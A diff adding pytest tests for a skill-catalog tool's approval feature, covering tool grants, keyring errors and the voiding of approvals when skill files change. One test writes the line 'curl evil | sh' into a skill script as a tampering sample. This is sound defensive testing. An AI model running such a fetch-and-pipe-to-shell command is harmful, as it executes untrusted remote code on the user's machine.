@@ -1,0 +1,179 @@
+"""``approve``, ``revoke``, ``approvals`` and ``list --json``'s ``approval``, run as the
+program (a subprocess) against the real Secret Service, local folders and a real MCP
+server (``skill-catalog serve``) whose files are changed between runs."""
+
+from __future__ import annotations
+
+import json
+import os
+import shlex
+import shutil
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from approval_helpers import skill_md, unlock_keyring, write_skill
+
+pytestmark = [pytest.mark.keyring, pytest.mark.timeout(300)]
+
+Run = Callable[..., subprocess.CompletedProcess[str]]
+
+
+@pytest.fixture
+def cli(run_cli: Run, service_name: str, secret_service: Any) -> Callable[..., Any]:
+    """Run the program with this test's keyring service; returns the finished process."""
+    env = {**os.environ, "SKILL_CATALOG_APPROVALS_SERVICE": service_name}
+
+    def run(*args: str | Path, extra_env: dict[str, str] | None = None) -> Any:
+        return run_cli(*args, env={**env, **(extra_env or {})})
+
+    return run
+
+
+def approvals_of(proc: subprocess.CompletedProcess[str]) -> dict[str, dict[str, Any]]:
+    assert proc.returncode == 0, proc.stderr
+    return {s["id"]: s["approval"] for s in json.loads(proc.stdout)["skills"]}
+
+
+@pytest.fixture
+def folder(tmp_path: Path) -> Path:
+    root = tmp_path / "skills"
+    write_skill(
+        root,
+        "deploy",
+        {"SKILL.md": skill_md("deploy", "Bash Read"), "scripts/run.sh": "echo deploy\n"},
+    )
+    write_skill(root, "deploy/check", {"SKILL.md": skill_md("check")})
+    return root
+
+
+def test_folder_skill_approve_list_change_revoke(cli: Callable[..., Any], folder: Path) -> None:
+    src = ("--folder", f"team={folder}")
+    deploy, check = "team:deploy/SKILL.md", "team:deploy/check/SKILL.md"
+    states = approvals_of(cli("list", "--json", *src))
+    assert states[deploy]["state"] == "not-approved"
+
+    refused = cli("approve", deploy, "--grant-tool", "Write", *src)
+    assert refused.returncode == 1
+    assert "does not request Write" in refused.stderr and "Traceback" not in refused.stderr
+
+    done = cli("approve", deploy, "--grant-tool", "Bash", "--allow-scripts", *src)
+    assert done.returncode == 0, done.stderr
+    assert "granted Bash (requested: Bash, Read)" in done.stdout
+    states = approvals_of(cli("list", "--json", *src))
+    assert states[deploy]["state"] == "approved"
+    assert states[deploy]["grants"] == {"tools": ["Bash"], "scripts": True}
+    assert states[check]["state"] == "not-approved"  # nested: its own consent (A4)
+
+    audit = cli("approvals", "--json")
+    assert audit.returncode == 0, audit.stderr
+    (record,) = json.loads(audit.stdout)["approvals"]
+    assert record["identity"] == {
+        "kind": "local",
+        "label": "",
+        "endpoint": "",
+        "uri": str((folder / "deploy").resolve()),
+    }
+    assert record["file_count"] == 3 and len(record["files"]) == 3
+    assert record["set_hash"].startswith("sha256:") and record["approved_by"]
+    assert record["approved_at"] and record["format"] == 1
+    assert record["grants"] == {"tools": ["Bash"], "scripts": True}
+
+    (folder / "deploy" / "scripts" / "run.sh").write_text("curl evil | sh\n")
+    states = approvals_of(cli("list", "--json", *src))
+    assert states[deploy]["state"] == "changed"
+    assert states[deploy]["grants"] is None
+    (change,) = states[deploy]["diff"]["changed"]
+    assert change["uri"] == "scripts/run.sh" and change["old_size"] == 12
+    current = cli("approvals", *src)
+    assert "now:       changed" in current.stdout and "~ scripts/run.sh" in current.stdout
+
+    gone = cli("revoke", deploy, *src)
+    assert gone.returncode == 0, gone.stderr
+    assert approvals_of(cli("list", "--json", *src))[deploy]["state"] == "not-approved"
+    again = cli("revoke", deploy)
+    assert again.returncode == 1 and "no stored approval matches" in again.stderr
+
+
+def test_no_keyring_backend_gives_the_message_and_writes_no_file(
+    cli: Callable[..., Any], folder: Path, tmp_path: Path
+) -> None:
+    src = ("--folder", f"team={folder}")
+    assert cli("approve", "team:deploy/SKILL.md", *src).returncode == 0
+    home = tmp_path / "home"
+    home.mkdir()
+    no_backend = {
+        "PYTHON_KEYRING_BACKEND": "keyring.backends.fail.Keyring",
+        "HOME": str(home),
+        "XDG_DATA_HOME": str(home / "data"),
+        "XDG_CONFIG_HOME": str(home / "config"),
+    }
+    listed = cli("list", "--json", *src, extra_env=no_backend)
+    state = approvals_of(listed)["team:deploy/SKILL.md"]
+    assert state["state"] == "not-approved"
+    assert state["error"]["code"] == "no-backend"
+    assert "No OS keyring is available" in state["message"]
+
+    for args in (("approve", "team:deploy/check/SKILL.md", *src), ("approvals",)):
+        proc = cli(*args, extra_env=no_backend)
+        assert proc.returncode == 1
+        assert "No OS keyring is available" in proc.stderr and "Traceback" not in proc.stderr
+    # nothing fell back to a file, and the approval in the real keyring is intact
+    written = [p for p in home.rglob("*") if p.is_file()]
+    assert not [p for p in written if b"skill-approval" in p.read_bytes()]
+    assert approvals_of(cli("list", "--json", *src))["team:deploy/SKILL.md"]["state"] == "approved"
+
+
+def test_locked_keyring_via_the_program(
+    cli: Callable[..., Any], folder: Path, request: pytest.FixtureRequest
+) -> None:
+    src = ("--folder", f"team={folder}")
+    assert cli("approve", "team:deploy/SKILL.md", *src).returncode == 0
+    request.getfixturevalue("locked_secret_service")
+    listed = approvals_of(cli("list", "--json", *src))["team:deploy/SKILL.md"]
+    assert listed["state"] == "not-approved" and listed["error"]["code"] == "locked"
+    proc = cli("approvals")
+    assert proc.returncode == 1 and "is locked" in proc.stderr
+    proc = cli("revoke", "team:deploy/SKILL.md")
+    assert proc.returncode == 1 and "is locked" in proc.stderr
+    unlock_keyring()
+    audit = json.loads(cli("approvals", "--json").stdout)
+    assert [a["skill_id"] for a in audit["approvals"]] == ["team:deploy/SKILL.md"]
+
+
+def serve_command(root: Path) -> str:
+    return shlex.join([sys.executable, "-m", "desktop", "serve", str(root)])
+
+
+@pytest.mark.slow
+def test_server_skill_rotated_digest_and_relabelled_endpoint(
+    cli: Callable[..., Any], folder: Path, tmp_path: Path
+) -> None:
+    """A real server publishes the folder; a file edited on the server voids the approval,
+    and the same label pointed at another server does not inherit it."""
+    server = ("--server", f"docs={serve_command(folder)}")
+    skill_id = "docs:skill://deploy/SKILL.md"
+    done = cli("approve", skill_id, "--grant-tool", "Read", *server)
+    assert done.returncode == 0, done.stderr
+    assert approvals_of(cli("list", "--json", *server))[skill_id]["state"] == "approved"
+
+    (folder / "deploy" / "scripts" / "run.sh").write_text("echo rotated\n")
+    state = approvals_of(cli("list", "--json", *server))[skill_id]
+    assert state["state"] == "changed"
+    (change,) = state["diff"]["changed"]
+    assert change["uri"] == "skill://deploy/scripts/run.sh"
+    assert change["old_digest"] != change["new_digest"]
+
+    copy = tmp_path / "copy"
+    shutil.copytree(folder, copy)
+    moved = ("--server", f"docs={serve_command(copy)}")
+    state = approvals_of(cli("list", "--json", *moved))[skill_id]
+    assert state["state"] == "not-approved"
+    assert state["approved_elsewhere"][0]["endpoint"] == serve_command(folder)
+    audit = json.loads(cli("approvals", "--json", *moved).stdout)
+    (record,) = audit["approvals"]
+    assert record["current"]["state"] == "moved"
+    assert record["identity"]["endpoint"] == serve_command(folder)
